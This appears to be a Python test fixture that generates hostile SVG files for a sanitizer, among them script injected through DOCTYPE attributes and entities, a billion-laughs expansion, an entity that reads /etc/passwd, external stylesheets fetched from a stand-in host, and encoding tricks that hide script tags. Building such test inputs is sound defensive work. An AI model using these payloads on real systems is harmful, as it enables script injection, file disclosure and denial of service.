"""SVG files that run, load, send or show what a picture must not, each in a way of its own."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

#: A request to it is one that left; a script calls it as well.
AWAY = "http://away.example"
SCRIPT = f"fetch('{AWAY}/script')"
_SVG = "http://www.w3.org/2000/svg"
_XLINK = "http://www.w3.org/1999/xlink"
_XHTML = "http://www.w3.org/1999/xhtml"

#: What stands within an `<svg>` that has a square, each below its name.
_INSIDE = Path(__file__).parents[1] / "cases" / "svg" / "hostile.txt"
_ATTLIST = f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{SCRIPT}">]>'
_ENTITY = f'<!DOCTYPE svg [<!ENTITY x "&#60;script>{SCRIPT}&#60;/script>">]>'
_LAUGHS = (
    '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)


def hostile() -> Iterator[tuple[str, bytes]]:
    """Each file with what is wrong with it."""
    lines = _INSIDE.read_text("utf-8").splitlines()
    for name, inside in zip(lines[::2], lines[1::2], strict=True):
        yield name.removeprefix("# "), _file(inside)
    whole = _file("").decode()
    yield "attributes declared in the DOCTYPE", (_ATTLIST + whole).encode()
    yield "script in an entity", (_ENTITY + whole.replace("</svg>", "&x;</svg>")).encode()
    yield "entities that grow", (_LAUGHS + whole.replace("</svg>", "&i;</svg>")).encode()
    yield (
        "file in an entity",
        (
            '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            + whole.replace("</svg>", "<text>&x;</text></svg>")
        ).encode(),
    )
    yield (
        "style sheet of the document",
        (f'<?xml-stylesheet href="{AWAY}/a.css" type="text/css"?>{whole}').encode(),
    )
    yield (
        "program of the document",
        (f'<?xml-stylesheet href="{AWAY}/a.xsl" type="text/xsl"?>{whole}').encode(),
    )
    yield "another root", f'<html xmlns="{_XHTML}"><script>{SCRIPT}</script></html>'.encode()
    yield "no namespace", b"<svg><script>1</script></svg>"
    with_script = _file(f"<script>{SCRIPT}</script>").decode()
    yield "UTF-16", with_script.encode("utf-16")
    escaped = with_script.replace("<script", "<sc\x1b(Bript").replace("</script", "</sc\x1b(Bript")
    yield (
        "escape within a word",
        (b'<?xml version="1.0" encoding="ISO-2022-JP"?>' + escaped.encode("ascii")),
    )
    yield "UTF-7", (b'<?xml version="1.0" encoding="UTF-7"?>' + with_script.encode("utf-7"))
    yield "not well-formed", _file("<g>")
    yield "HTML behind its end", _file("") + f"<script>{SCRIPT}</script>".encode()


def _file(inside: str) -> bytes:
    return (
        f'<svg xmlns="{_SVG}" xmlns:xlink="{_XLINK}" viewBox="0 0 9 9">'
        f'<rect width="5" height="5"/>{inside}</svg>'
    ).encode()
